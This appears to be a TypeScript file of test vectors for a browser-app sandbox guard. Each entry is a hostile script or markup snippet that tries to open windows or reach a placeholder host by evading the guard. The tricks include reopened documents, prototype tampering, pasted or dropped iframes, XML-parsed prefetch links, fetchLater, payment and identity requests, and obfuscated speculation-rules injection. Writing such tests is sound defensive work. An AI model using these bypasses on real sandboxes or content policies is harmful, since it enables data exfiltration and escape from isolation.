/**
 * Hostile apps that go round the guard by what it could forget: other realms, events that nobody hears, documents that are opened again,
 * texts that are read as XML, what a person pastes, and what a browser fetches ahead. All begin with a word of their own: `beyond`.
 */
import { markup, script, type Vector } from "./vector.ts";

const XHTML = "http://www.w3.org/1999/xhtml";
const LINK = `const a=document.createElement("a");a.href="@URL";a.target="_blank";`;
const OVER = 'style="position:fixed;inset:0;width:100%;height:100%"';
const hinted = (of: string): string =>
  `const l=${of};l.setAttribute("rel","dns-prefetch");l.setAttribute("href","http://@NAME/");document.head.append(l)`;
const inRealm = (of: string): string =>
  `const d=(${of}).document;const l=d.createElement("link");l.rel="preconnect";l.href="http://@NAME:@PORT/";d.head.append(l);`;
const clicked = (name: string, source: string): Vector =>
  script(`beyond: ${name}`, `onclick=()=>{onclick=null;${source}}`, "click");
const PARENT = `const d=document.body.firstChild;`;
const EDITED = `document.body.innerHTML='<div contenteditable style="position:fixed;inset:0">x</div><b draggable="true" style="position:fixed;left:200px;top:150px;width:200px;height:200px;background:red">y</b>';${PARENT}`;
const ENTERED = `d.oninput=()=>{${inRealm(`document.querySelector("iframe").contentWindow`)}}`;
/** A shadow tree that is taken out of a document which is then opened again: its listeners are gone. */
const outlived = (tree: string, then: string): string =>
  `const h=document.createElement("div"),s=h.attachShadow({mode:"closed"});s.innerHTML='${tree}';document.body.append(h);setTimeout(()=>{document.open();document.write("<p>x");document.close();document.body.append(h);onclick=()=>{onclick=null;${then}}},20)`;

const windows: readonly Vector[] = [
  clicked("window of document.open", `document.open("@URL","_blank","")`),
  clicked("realm of document.open", inRealm(`document.open("about:blank","_blank","")`)),
  script(
    "beyond: realm of a picture in the picture",
    `onclick=async()=>{${inRealm("await top.documentPictureInPicture.requestWindow()")}}`,
    "click",
  ),
  clicked(
    "click with isPrototypeOf changed",
    `Object.prototype.isPrototypeOf=()=>false;${LINK}a.dispatchEvent(new MouseEvent("click"))`,
  ),
  clicked(
    "click without a prototype",
    `${LINK}const e=new MouseEvent("click");Object.setPrototypeOf(e,null);a.dispatchEvent(e)`,
  ),
  clicked(
    "click that its link stops first",
    `${LINK}a.addEventListener("click",e=>e.stopImmediatePropagation(),true);a.click()`,
  ),
  clicked(
    "address that comes in the click",
    `const a=document.createElement("a");a.href="#";a.target="_blank";document.body.append(a);a.onclick=()=>{a.href="@URL"};a.click()`,
  ),
  markup(
    "beyond: address that comes when its link is gone",
    `<a id="a" href="#" target="_blank" ${OVER}>x</a><script>a.onclick=()=>{const b=a;b.remove();b.href="@URL"}</script>`,
    "click",
  ),
  script(
    "beyond: link of a document that is written again",
    `setTimeout(()=>{document.write("<p>x<script>onclick=()=>{onclick=null;${LINK.replaceAll('"', '\\"')}document.body.append(a);a.click()}</"+"script>");document.close()},50)`,
    "click",
  ),
  markup(
    "beyond: link that is drawn again",
    `<svg ${OVER}><defs><a id="l" xlink:href="@URL" target="_blank"><rect width="2000" height="2000"/></a></defs><use href="#l"/></svg>`,
    "click",
  ),
  markup(
    "beyond: file that becomes a document in the click",
    `<a id="a" download target="_blank" ${OVER}>x</a><script>a.href=URL.createObjectURL(new Blob(["<link rel=preconnect href=http://@NAME:@PORT/><script>location='@URL'</"+"script>"],{type:"text/html"}));a.onclick=()=>a.removeAttribute("download")</script>`,
    "click",
  ),
  clicked(
    "label in no document",
    `${LINK}const b=document.createElement("button");b.type="button";a.append(b);const l=document.createElement("label");const d=document.createElement("div");l.append(a);d.append(l);d.addEventListener("click",e=>e.stopImmediatePropagation(),true);l.click()`,
  ),
  script(
    "beyond: link of a tree that outlived its document",
    outlived("", `${LINK}s.append(a);a.dispatchEvent(new MouseEvent("click",{cancelable:true}))`),
    "click",
  ),
  script(
    "beyond: form of a tree that outlived its document",
    outlived('<form action="@URL" target="_blank"><button>x</button></form>', `s.querySelector("button").click()`),
    "click",
  ),
  script(
    "beyond: frame that is pasted",
    `${EDITED}d.oncopy=e=>{e.preventDefault();e.clipboardData.setData("text/html","<b>x</b><iframe></iframe>")};document.querySelector("b").remove();${ENTERED}`,
    "copy and paste",
  ),
  script(
    "beyond: frame that is dropped",
    `${EDITED}document.querySelector("b").ondragstart=e=>e.dataTransfer.setData("text/html","<b>x</b><iframe></iframe>");${ENTERED}`,
    "drag",
  ),
];

const hints: readonly Vector[] = [
  script(
    "beyond: hint in a template of XML",
    hinted(
      `new DOMParser().parseFromString('<h:template xmlns:h="${XHTML}"><h:link/></h:template>',"text/xml").documentElement.content.firstChild`,
    ),
  ),
  script("beyond: hint of a name with two colons", hinted(`document.createElementNS("${XHTML}","x:link:b")`)),
  script(
    "beyond: hint of a text that is read as XML",
    hinted(
      `(()=>{const x=new Document();const e=x.createElementNS("${XHTML}","b");x.append(e);e.innerHTML='<h:link xmlns:h="${XHTML}"/>';return e.firstChild})()`,
    ),
  ),
  script("beyond: later fetch", `fetchLater("https://@NAME:@PORT/",{activateAfter:0})`),
  script(
    "beyond: payment",
    `new PaymentRequest([{supportedMethods:"https://@NAME:@PORT/pay"}],{total:{label:"x",amount:{currency:"USD",value:"1"}}}).canMakePayment()`,
  ),
  clicked(
    "identity",
    `navigator.credentials.get({identity:{providers:[{configURL:"https://@NAME:@PORT/c.json",clientId:"1"}]}})`,
  ),
  script(
    "beyond: list of pieces of a video",
    `const v=document.createElement("video");v.muted=true;v.src=URL.createObjectURL(new Blob(["#EXTM3U\\n#EXT-X-TARGETDURATION:4\\n#EXTINF:4,\\n@URL.ts\\n#EXT-X-ENDLIST\\n"],{type:"application/vnd.apple.mpegurl"}));document.body.append(v);v.play()`,
  ),
];

const RULES = '{"prefetch":[{"source":"list","urls":["https://@NAME:@PORT/"],"eagerness":"immediate"}]}';
const inScript = (text: string): string => JSON.stringify(text).replaceAll("</", "<\\/");
/** Runs a script in the outermost document, where alone a browser fetches ahead: in a file that is the app's own. */
const ruling = (name: string, source: string): Vector =>
  markup(
    `beyond: rules ${name}`,
    `<script>new top.Function(${inScript(`const document=top.document;${source}`)})()</script>`,
    "click",
  );
/** The same for markup. */
const ruled = (name: string, html: string): Vector =>
  markup(
    `beyond: rules ${name}`,
    `<script>if(top!==window)top.location=URL.createObjectURL(new Blob([${inScript(html)}],{type:"text/html"}))</script>${html}`,
    "click",
  );
const RULER = `const s=document.createElement("script");s.type="speculationrules";`;

const rules: readonly Vector[] = [
  ruling("by script", `${RULER}s.textContent='${RULES}';document.head.append(s)`),
  ruling(
    "in a text that changes",
    `${RULER}const t=document.createTextNode("");s.append(t);t.data='${RULES}';document.head.append(s)`,
  ),
  ruling(
    "of a fragment",
    `document.head.append(document.createRange().createContextualFragment('<script type=speculationrules>${RULES}</'+'script>'))`,
  ),
  ruled("by references", `<script type="speculation&#114;ules">${RULES}</script>`),
  ruled("that are drawn", `<svg><script type="speculationrules">${RULES.replaceAll('"', "&quot;")}</script></svg>`),
  ruled(
    "of another kind at first",
    `<script type="x" id="s">${RULES}</script><script>const t=s;t.type="speculationrules";document.head.append(t)</script>`,
  ),
  ruled(
    "written in pieces",
    `<script>document.write("<scr");document.write("ipt type=speculationrules>{");document.write(${inScript(`${RULES.slice(1)}</script>`)})</script>`,
  ),
  ruled(
    "of a template",
    `<template><script type="speculationrules">${RULES}</script></template><script>document.head.append(document.querySelector("template").content.firstChild)</script>`,
  ),
  ruling(
    "of a fragment that becomes them",
    `const f=document.createRange().createContextualFragment('<script>${RULES}</'+'script>');f.firstChild.type="speculationrules";document.head.append(f)`,
  ),
  ruling(
    "of a text whose scripts run",
    `document.body.setHTMLUnsafe('<script type=speculationrules>${RULES}</'+'script>',{runScripts:true})`,
  ),
  script(
    "beyond: frame that is pasted into a document that is edited",
    `document.designMode="on";document.body.textContent="x";document.oncopy=e=>{e.preventDefault();e.clipboardData.setData("text/html","<b>x</b><iframe></iframe>")};document.oninput=()=>{${inRealm('document.querySelector("iframe").contentWindow')}}`,
    "copy and paste",
  ),
];

/** All of them. */
export const moreVectors: readonly Vector[] = [...windows, ...hints, ...rules];
